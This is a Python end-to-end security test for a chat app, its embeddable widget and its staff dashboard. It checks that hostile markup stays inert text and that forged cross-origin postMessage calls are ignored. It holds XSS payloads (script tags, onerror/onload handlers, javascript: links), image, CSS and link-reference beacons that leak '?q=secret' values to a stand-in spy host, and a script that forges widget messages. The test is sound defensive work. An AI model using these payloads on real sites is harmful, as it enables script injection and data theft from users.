"""Hostile input in a real browser against the live stack. Markup that a
user types and that the model writes (a model forced to answer with it)
shows as text on the chat page, in the widget on another origin's page and
in the staff dashboard: no script runs, no link runs code and no page
fetches anything from another host. The widget's postMessage channel obeys
its embedding page only and speaks to that page's origin only."""

from __future__ import annotations

import json
import time
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from chat.models import Conversation, Message, WidgetVisitor
from chat.services.widget_identity import identity_signature
from chat.services.widget_sites import widget_site_save
from models_admin.services import model_version_create, model_version_promote
from tests.conftest import wait_for
from tests.e2e.conftest import (
    get_json,
    host_page_set_key,
    signup,
    stack_serving_changed,
    staff_login,
    staff_superuser_create,
)
from tests.e2e.test_chat import ANSWER, FINISHED
from tests.tiny_models import chain_llama_save, tokenizer_load

pytestmark = [pytest.mark.slow, pytest.mark.e2e]

SPY = "http://127.0.0.2:9"
PAYLOADS = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    "<svg onload=window.__pwned=1>",
    "[click me](javascript:window.__pwned=1)",
    '<a href="javascript:window.__pwned=1">raw link</a>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
]
LEAKS = [
    f"![x]({SPY}/?q=secret)",
    "![y][leak]",
    f'<img src="{SPY}/?q=secret2">',
    f'<div style="background:url({SPY}/?q=secret3)">styled</div>',
    f"[leak]: {SPY}/?q=secret4",
]
#: What the model answers, one paragraph a line of PAYLOADS and LEAKS.
ANSWER_TEXT = "\n\n".join(PAYLOADS + LEAKS)
#: What the user and the visitor type.
QUESTION = "\n".join(PAYLOADS + LEAKS)
#: The start of the automatic title the question gives its conversation.
TITLE = PAYLOADS[0]
#: The answer's lines that Markdown shows as they are (the images become
#: links and the reference definition disappears).
ANSWER_SHOWN = PAYLOADS + LEAKS[2:4]

#: Where message text and titles land on the chat page, in the widget and
#: in the dashboard.
BODIES = (
    ".msg-body, .bubble, .inbox-msg-body, .review-msg-body, td.preview, "
    "[data-testid=conversation-item], [data-testid=conversation-title], "
    "[data-testid=review-list] td"
)
# Runs in every frame before its scripts: records markup that must never
# appear in message text, even for a moment while an answer streams.
INSPECT = """
(() => {
  const BODIES = SELECTOR;
  const TAGS = new Set(["script", "img", "svg", "iframe", "frame", "object", "embed",
    "style", "link", "meta", "base", "video", "audio", "source", "picture", "form",
    "math", "image"]);
  const SCHEMES = new Set(["http:", "https:", "mailto:"]);
  window.__offences = (root) => {
    const found = [];
    for (const element of [root, ...root.querySelectorAll("*")]) {
      if (!element.closest(BODIES)) continue;
      const names = [...element.attributes].map((a) => a.name.toLowerCase());
      const live = names.some((n) => n.startsWith("on") || ["style", "src", "srcdoc"].includes(n));
      const badLink = element.localName === "a" && element.hasAttribute("href") &&
        !SCHEMES.has(element.protocol);
      if (TAGS.has(element.localName) || live || badLink) {
        found.push(element.outerHTML.slice(0, 200));
      }
    }
    return found;
  };
  window.__hostile = [];
  new MutationObserver((records) => {
    for (const record of records) {
      for (const node of record.addedNodes) {
        if (node instanceof Element) window.__hostile.push(...window.__offences(node));
      }
    }
  }).observe(document, { childList: true, subtree: true });
})();
""".replace("SELECTOR", json.dumps(BODIES))
# From a frame of another origin inside the host page: post to every other
# frame of the page (the widget among them) and to the page itself.
FORGE = """([toFrames, toHost]) => {
  for (let i = 0; i < parent.frames.length; i += 1) {
    const target = parent.frames[i];
    if (target !== window) for (const message of toFrames) target.postMessage(message, "*");
  }
  for (const message of toHost) parent.postMessage(message, "*");
}"""
WIDGET_FRAME = '[data-testid="widget-container"] iframe'


@pytest.fixture(scope="module")
def hostile_model(tmp_path_factory, default_model_dir) -> Path:
    """A model that answers every prompt with ANSWER_TEXT. Its tokenizer
    holds each paragraph as one token, which makes the answer's tokens
    distinct, as chain_llama_save needs."""
    folder = tmp_path_factory.mktemp("hostile")
    tokenizer = tokenizer_load(default_model_dir)
    paragraphs = ANSWER_TEXT.split("\n\n")
    tokenizer.add_tokens([f"{p}\n\n" for p in paragraphs[:-1]] + paragraphs[-1:])
    tokenizer.save_pretrained(folder / "tokenizer")
    model, _chain = chain_llama_save(
        folder / "model", text=ANSWER_TEXT, default_model_dir=folder / "tokenizer"
    )
    return model


@pytest.fixture
def hostile_stack(stack, hostile_model):
    """The stack with the hostile model in production and served."""
    model_version_promote(version=model_version_create(name="hostile", folder=hostile_model))
    stack_serving_changed()

    def serving() -> bool:
        status, body = get_json(stack["base"] + "/readyz")
        workers = body.get("checks", {}).get("inference", {}).get("workers", [])
        return status == 200 and all(
            w["state"] == "ready" and w["model_version"] == "hostile" for w in workers
        )

    wait_for(serving, timeout=120)
    return stack


def _watched_context(browser, origins: set[str]):
    """A browser context whose frames run INSPECT and whose requests to
    anywhere but origins are refused; return it and the list of refused
    URLs."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(script=INSPECT)
    refused: list[str] = []

    def handle(route) -> None:
        parts = urlsplit(route.request.url)
        if f"{parts.scheme}://{parts.netloc}" in origins:
            route.continue_()
        else:
            refused.append(route.request.url)
            route.abort()

    context.route("**/*", handle)
    return context, refused


def _assert_inert(scope, selector: str, shown: list[str]) -> None:
    """Nothing ran in scope (a page or a frame), the elements selector picks
    hold no live markup and never did, and each of shown is there as
    text."""
    assert scope.evaluate("() => window.__pwned") is None
    assert scope.evaluate("() => window.__hostile") == []
    bodies = scope.locator(selector)
    # Titles and list entries arrive a moment after the answer: wait for
    # the text (bounded), then check it.
    deadline = time.monotonic() + 30
    text = "\n".join(bodies.all_inner_texts())
    while not all(piece in text for piece in shown) and time.monotonic() < deadline:
        scope.wait_for_timeout(200)
        text = "\n".join(bodies.all_inner_texts())
    assert bodies.count() > 0
    offences = scope.evaluate(
        "(s) => [...document.querySelectorAll(s)].flatMap(window.__offences)", selector
    )
    assert offences == []
    for piece in shown:
        assert piece in text


def _click_payloads(page, scope, selector: str) -> None:
    """Click the would-be links of the payloads in scope; nothing runs, the
    page stays where it is and opens no other."""
    url, pages = scope.url, len(page.context.pages)
    for text in ("[click me](javascript:", "raw link</a>"):
        targets = scope.locator(selector).get_by_text(text).all()
        assert targets
        for target in targets:
            target.click()
    page.wait_for_timeout(300)  # a click's navigation or script would start by now
    assert scope.evaluate("() => window.__pwned") is None
    assert scope.url == url
    assert len(page.context.pages) == pages


def test_markup_from_a_user_and_the_model_stays_text_on_the_chat_and_review_pages(
    hostile_stack, browser, artifacts_dir
):
    """A question and an answer full of script, event handlers, javascript:
    links and remote images show as text on the chat page, live and after a
    reload, and on the dashboard's review pages; nothing runs, clicking
    the would-be links does nothing and no page asks another host for
    anything."""
    base = hostile_stack["base"]
    context, refused = _watched_context(browser, {base})
    page = context.new_page()
    signup(page, base, "mallory")
    page.get_by_test_id("composer-input").fill(QUESTION)
    page.keyboard.press("Enter")
    page.wait_for_selector(FINISHED, timeout=180_000)
    assert Message.objects.get(role="assistant").content == ANSWER_TEXT

    # Streamed and finished, then rendered again from the server's data.
    for loaded in ("streamed", "reloaded"):
        _assert_inert(page, '[data-testid="user-message"] .msg-body', QUESTION.splitlines())
        _assert_inert(page, f"{ANSWER} .msg-body", ANSWER_SHOWN)
        _assert_inert(page, "[data-testid=conversation-title]", [TITLE])
        _assert_inert(page, "[data-testid=conversation-item]", [TITLE])
        _click_payloads(page, page, "#messages")
        page.screenshot(path=str(artifacts_dir / f"hostile-chat-{loaded}.png"), full_page=True)
        page.reload()
        page.wait_for_selector(FINISHED)

    # Staff read the conversation in the dashboard.
    staff_superuser_create("reviewer")
    staff_context, staff_refused = _watched_context(browser, {base})
    staff = staff_context.new_page()
    staff_login(staff, base, "reviewer")
    staff.goto(base + "/dashboard/conversations/")
    _assert_inert(staff, "[data-testid=review-list] td", [TITLE])
    staff.locator('[data-testid="review-list"] a[href*="/dashboard/conversations/"]').click()
    staff.wait_for_selector('[data-testid="active-path"]')
    _assert_inert(staff, ".review-msg-body", QUESTION.splitlines() + ANSWER_TEXT.split("\n\n"))
    assert TITLE in staff.locator("h1").inner_text()
    _click_payloads(staff, staff, "[data-testid=active-path]")
    staff.screenshot(path=str(artifacts_dir / "hostile-review.png"), full_page=True)

    assert refused == []
    assert staff_refused == []
    staff_context.close()
    context.close()


def _wait_for_frame(page, frames: list[str], text: str) -> None:
    """Let page's events in until a socket frame containing text shows."""
    for _ in range(300):
        if any(text in frame for frame in frames):
            return
        page.wait_for_timeout(100)
    raise AssertionError(f"no socket frame with {text}")


def test_markup_in_the_widget_and_inbox_stays_text_and_other_origins_cannot_drive_it(
    hostile_stack, browser, host_pages, artifacts_dir
):
    """The same markup shows as text in the widget on a customer's page and
    in the staff inbox, read from the server and arriving live. A frame of
    another origin in the customer's page cannot drive the widget or the
    page's loader by postMessage, while the page itself can; and the
    widget posts to the origin it was made for only."""
    base = hostile_stack["base"]
    folder, (host, other) = host_pages
    # The same page server under another name: a second origin.
    mirror = host.replace("127.0.0.1", "localhost")
    site = widget_site_save(data={"name": "Fernhollow", "allowed_origins": f"{host}\n{mirror}"})
    host_page_set_key(folder, site.public_key)
    # The host page carries a frame from an origin it does not trust.
    index = folder / "index.html"
    index.write_text(
        index.read_text().replace(
            "</body>", f'<iframe src="{other}/ad.html" title="Advert"></iframe></body>'
        )
    )
    (folder / "ad.html").write_text("<!doctype html><p>Buy more ferns.</p>")
    token_key = f"chatWidget:{site.public_key}:token"

    context, refused = _watched_context(browser, {base, host, other, mirror})
    visitor = context.new_page()
    sent: list[str] = []
    visitor.on("websocket", lambda ws: ws.on("framesent", lambda f: sent.append(f)))
    visitor.goto(host)
    visitor.get_by_test_id("widget-launcher").click()
    frame = visitor.frame_locator(WIDGET_FRAME)
    frame.get_by_test_id("widget-input").fill(QUESTION)
    frame.get_by_test_id("widget-send").click()
    frame.locator('[data-testid="widget-answer"][data-status="done"]').wait_for(timeout=180_000)
    chat = visitor.locator(WIDGET_FRAME).element_handle().content_frame()
    _assert_inert(chat, "[data-testid=widget-question] .bubble", QUESTION.splitlines())
    _assert_inert(chat, "[data-testid=widget-answer] .bubble", ANSWER_SHOWN)
    _click_payloads(visitor, chat, "#messages")
    assert visitor.evaluate("() => window.__pwned") is None
    visitor.screenshot(path=str(artifacts_dir / "hostile-widget.png"))

    # Staff open the conversation in the inbox: what is there, then a
    # second exchange arriving live over the dashboard socket.
    conversation = Conversation.objects.get(visitor__site=site)
    staff_superuser_create("agent")
    staff_context, staff_refused = _watched_context(browser, {base})
    staff = staff_context.new_page()
    received: list[str] = []
    staff.on("websocket", lambda ws: ws.on("framereceived", lambda f: received.append(f)))
    staff_login(staff, base, "agent")
    staff.goto(f"{base}/dashboard/inbox/{conversation.pk}/")
    raw = QUESTION.splitlines() + ANSWER_TEXT.split("\n\n")
    _assert_inert(staff, ".inbox-msg-body", raw)
    _wait_for_frame(staff, received, f"conversation.{conversation.pk}")
    frame.get_by_test_id("widget-input").fill(QUESTION)
    frame.get_by_test_id("widget-send").click()
    frame.locator('[data-testid="widget-answer"][data-status="done"]').nth(1).wait_for()
    staff.locator('.inbox-msg.role-assistant[data-status="done"]').nth(1).wait_for()
    assert staff.locator(".inbox-msg").count() == 4
    _assert_inert(staff, ".inbox-msg-body", raw)
    staff.screenshot(path=str(artifacts_dir / "hostile-inbox.png"), full_page=True)
    # Waiting for a person, the conversation is listed with its last message.
    frame.get_by_test_id("widget-handoff").click()
    staff.goto(f"{base}/dashboard/inbox/")
    _assert_inert(staff, "td.preview", [TITLE])

    # A frame of another origin in the host page forges messages to the
    # widget (even a correctly signed identity) and to the host page.
    token = visitor.evaluate("(key) => localStorage.getItem(key)", token_key)
    assert token
    advert = visitor.frame(url=f"{other}/ad.html")
    seen = len(sent)
    advert.evaluate(
        FORGE,
        [
            [
                {
                    "chatWidget": 1,
                    "type": "identify",
                    "user": "mallory",
                    "signature": identity_signature(site=site, user_id="mallory"),
                },
                {"chatWidget": 1, "type": "reset"},
                {"chatWidget": 1, "type": "init", "token": None, "identity": None},
            ],
            [
                {"chatWidget": 1, "type": "token", "token": "forged"},
                {"chatWidget": 1, "type": "close"},
                {"chatWidget": 1, "type": "resize", "full": True},
            ],
        ],
    )
    visitor.wait_for_timeout(1000)  # time for a message to arrive and act
    assert [f for f in sent[seen:] if '"ping"' not in f] == []  # no identify, reset or send
    assert not WidgetVisitor.objects.filter(external_id="mallory").exists()
    assert visitor.evaluate("(key) => localStorage.getItem(key)", token_key) == token
    container = visitor.get_by_test_id("widget-container")
    assert "chat-widget-open" in container.get_attribute("class")
    assert "chat-widget-full" not in container.get_attribute("class")
    assert frame.locator('[data-testid="widget-question"]').count() == 2

    # The widget's own close button works; a forged unread count does not.
    frame.get_by_test_id("widget-close").click()
    visitor.wait_for_function(
        "() => !document.querySelector('[data-testid=widget-container]')"
        ".classList.contains('chat-widget-open')"
    )
    advert.evaluate(FORGE, [[], [{"chatWidget": 1, "type": "unread", "count": 7}]])
    visitor.wait_for_timeout(1000)
    assert visitor.get_by_test_id("widget-unread").is_hidden()

    # The embedding page itself is obeyed: identify, then reset, whose
    # new visitor token comes back to the page.
    visitor.evaluate(
        "([user, signature]) => ChatWidget.identify(user, signature)",
        ["alice", identity_signature(site=site, user_id="alice")],
    )
    _wait_for_frame(visitor, sent, '"identify"')
    wait_for(lambda: WidgetVisitor.objects.filter(external_id="alice").exists())
    visitor.evaluate("() => ChatWidget.reset()")
    visitor.wait_for_function(
        "([key, old]) => { const t = localStorage.getItem(key); return !!t && t !== old; }",
        arg=[token_key, token],
    )
    assert any('"reset"' in f for f in sent[seen:])

    # The frame speaks to the origin it was made for only: framed by the
    # mirror origin while told its host is the first, it sends the mirror
    # nothing, not even its visitor token.
    (folder / "mirror.html").write_text(
        "<!doctype html><script>window.received = [];"
        "addEventListener('message', (e) => received.push([e.origin, e.data]));</script>"
        f'<iframe id="chat" src="{base}/widget/frame/?key={site.public_key}&origin={host}">'
        "</iframe>"
    )
    mirror_page = context.new_page()
    mirror_page.goto(f"{mirror}/mirror.html")
    inner = mirror_page.frame_locator("#chat")
    inner.locator('[data-testid="widget-app"][data-connected="yes"]').wait_for(timeout=60_000)
    mirror_page.wait_for_timeout(1000)  # time for a posted token to arrive
    assert mirror_page.evaluate("() => window.received") == []

    assert refused == []
    assert staff_refused == []
    staff_context.close()
    context.close()
